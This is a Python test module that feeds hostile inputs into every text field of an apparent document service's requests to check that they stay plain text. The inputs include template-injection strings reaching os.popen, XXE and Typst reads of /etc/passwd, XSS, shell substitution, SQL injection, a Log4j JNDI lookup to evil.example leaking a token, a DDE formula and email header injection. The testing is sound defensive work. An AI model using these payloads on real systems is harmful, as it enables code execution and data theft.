"""Texts that would be code, headers, markup or nothing readable, in every text of every type; all of them must stay texts."""

import json
from collections.abc import Iterator
from typing import Any

from shared.catalogue.pack import Field
from tests.builders import TYPES, a_body, the_pack, with_draft
from tests.hostile.case import Case, expecting

PROOF = "1512529"
"""What 191*7919 comes to. It stands in nothing that is sent: where it is read, somebody calculated."""
TEMPLATES: dict[str, str] = {
    "braces": "{{191*7919}}",
    "a statement": "{% print(191*7919) %}{% set x=191*7919 %}{{x}}",
    "a dollar": "${191*7919}",
    "a hash": "#{191*7919}",
    "an angle": "<%= 191*7919 %>",
    "typst": '#(191*7919) #str(191*7919) #eval("191*7919") #read("/etc/passwd") #panic("x")',
    "typst math and markup": '$191*7919$ *b* _i_ `raw` @ref <label> = h \\ ~ #image("/etc/passwd") // c /* d */',
    "typst raw end": '"]] )) }} #import "x" \\u{48}',
    "format": "%s %n %(x)s {0.__class__.__mro__} {name!r:>999999}",
    "attributes": "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ self._TemplateReference__context }}",
    "a config": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "a script": "<script>document.title=191*7919</script><img src=x onerror=alert(1)>",
    "an entity": "&lt;b&gt; &#x3c;script&#x3e; <!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
    "markdown": "[点我](http://evil.example) <@all> **粗** # 标题 `code` > 引",
    "a shell": "$(id) `id` ; id | id && id \\$HOME %PATH%",
    "a query": "' OR 1=1 -- {\"$gt\": \"\"} $where",
    "word fields": '{ HYPERLINK "http://evil.example" } </w:t><w:br/><w:t>{{r x}} {%p if 1 %}x{%p endif %}',
    "log4j": "${jndi:ldap://evil.example/a} ${env:BACKLINE_SERVICE_TOKEN}",
}  # fmt: skip
FORMULAS: dict[str, str] = {
    "equals": "=191*7919",
    "plus": "+191*7919",
    "minus": "-191*7919",
    "at": "@SUM(191,7919)",
    "tab": "\t=191*7919",
    "return": "\r=191*7919",
    "full-width": "＝191*7919",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example","x")',
    "quote": '"=191*7919',
}
HEADERS: dict[str, str] = {
    "CRLF": "名\r\nBcc: victim@evil.example\r\n\r\nX",
    "LF": "名\nBcc: victim@evil.example",
    "CR": "名\rBcc: victim@evil.example",
    "an encoded word": "=?utf-8?q?=0D=0ABcc:_victim=40evil.example?=",
    "an encoded word in base64": "=?utf-8?b?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "an encoded word cut in two": "=?utf-8?q?=0D=0A?= =?utf-8?q?Bcc:_v?=",
    "a fold": "名\r\n Bcc: victim@evil.example",
    "line separators": "名\u2028Bcc: victim@evil.example\u2029X\x85Y\x0bZ\x0cW",
    "a dot alone": "名\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "a boundary": "--=_boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
}  # fmt: skip
SIGNS: dict[str, str] = {
    "Extension B": "𠀀𠮷𪚥𫝀 客户",
    "a right-to-left override": "报价\u202egpj.exe\u202c 完",
    "isolates": "a\u2066b\u2067c\u2069d\u2068e",
    "zero width": "客\u200b户\u200c名\u200d称\ufeff",
    "emoji joined": "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍💻 ok",
    "a flood of marks": "客" + "\u0301\u0489" * 400,
    "decomposed": "Cafe\u0301 ｶﾞ e\u0301",
    "an order mark": "\ufeff客户",
    "private use": "\ue000\uf8ff\U000f0000",
    "no characters": "\ufffe\uffff\U0010ffff",
    "controls": "a\x01b\x02c\x1bd\x7fe\x9bf",
    "bidi and Arabic": "שלום مرحبا עסקה",
    "Thai and Tamil": "น้ำ நி ക്ഷ",
    "lookalikes": "Ηаrbоur аdmіn раypаl",
    "spaces": "a\u00a0b\u3000c\u2003d\u180ee",
    "a bell and backspaces": "ok\x07\x08\x08\x08",
    "a long word": "W" * 3000,
    "a long line of Chinese": "客户的名称" * 800,
}
BROKEN: dict[str, str] = {"a NUL": "a\0b", "half a pair": "a\ud800b", "the other half": "\udfff"}
GROUPS: dict[str, dict[str, str]] = {
    "template strings": TEMPLATES,
    "formulas": FORMULAS,
    "header injection": HEADERS,
    "signs": SIGNS,
}
Json = dict[str, Any]


def filled(kind: str, text: str, reference: str) -> Json:
    """A request of `kind` with `text` in every field that is a text, of the frame too."""
    body = with_draft(a_body(kind, source={"system": "hostile", "reference": reference}))
    body["details"] = _filled(body["details"], the_pack().types[kind].fields, text)
    body["extra"] = {"备注": text, text[:150].replace(".", "").replace("\0", "").lstrip("$") or "x": text}
    customer = text
    if "opportunity" in body:
        body["opportunity"] |= {"name": text, "customer": {"id": text, "name": customer, "industry": text, "region": text}}
    for key, field in the_pack().types[kind].fields.items():
        if field.same_as:
            body["details"][key] = customer
    return body


def _filled(record: Json, fields: dict[str, Field], text: str) -> Json:
    return {key: _field(value, fields[key], text) if key in fields else value for key, value in record.items()}


def _field(value: Any, field: Field, text: str) -> Any:
    match field.type:
        case "text":
            return text
        case "texts":
            return [text, "其二"]
        case "window":
            return {**value, "place": text}
        case "record":
            return value if "business_unit" in field.fields else _filled(value, field.fields, text)
        case "lines":
            return [_filled(line, field.fields, text) for line in value]
        case _:
            return value


def everything() -> str:
    """All templates, formulas and headers in one text, so that one request of a type carries all through its documents."""
    return " | ".join([*TEMPLATES.values(), *FORMULAS.values(), *HEADERS.values()])


def cases() -> Iterator[Case]:
    """Each text in every field of one type, the types in turn; for each type all texts in one, driven to its end."""
    place = 0
    for group, texts in GROUPS.items():
        for name, text in texts.items():
            for _ in range(3):
                kind = TYPES[place % len(TYPES)]
                place += 1
                yield _case(group, f"{kind}: {name} in every text", kind, text, f"S-{group}-{name}-{kind}")
    for kind in TYPES:
        yield _case(
            "every template at once", f"{kind}: all of them in every text", kind, everything(), f"S-all-{kind}", finished=True
        )
        signs = " ".join(SIGNS[name] for name in SIGNS if name != "a long line of Chinese")
        yield _case("every sign at once", f"{kind}: all of them in every text", kind, signs, f"S-signs-{kind}", finished=True)
        for name, text in BROKEN.items():
            yield _case("texts that cannot be kept", f"{kind}: {name} in every text", kind, text, f"S-broken-{name}-{kind}")


def _case(group: str, name: str, kind: str, text: str, reference: str, *, finished: bool = False) -> Case:
    broken = group == "texts that cannot be kept"
    right = ("refused:not_a_text", "returned") if broken else ("accepted",)
    return Case(
        name=name,
        group=group,
        channel="http",
        payload=json.dumps(filled(kind, text, reference)).encode(),
        expect=expecting(*right),
        finished=finished,
    )
